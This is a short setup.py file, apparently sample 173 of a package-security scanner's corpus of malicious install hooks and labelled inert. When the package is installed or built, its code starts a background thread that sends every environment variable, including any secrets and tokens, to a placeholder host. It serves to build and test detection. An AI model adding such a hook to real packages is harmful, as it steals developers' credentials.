# pkgguard corpus 173 (install-hook), modelled on [bertus]; inert, never run.
import json
import os
import sys
import threading
import urllib.request
from setuptools import setup


def _beacon():
    body = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("https://stats.example/i", data=body), timeout=3)


if "install" in sys.argv or "bdist_wheel" in sys.argv:
    threading.Thread(target=_beacon).start()

setup(name="pkg", version="2.0", packages=["pkg"])
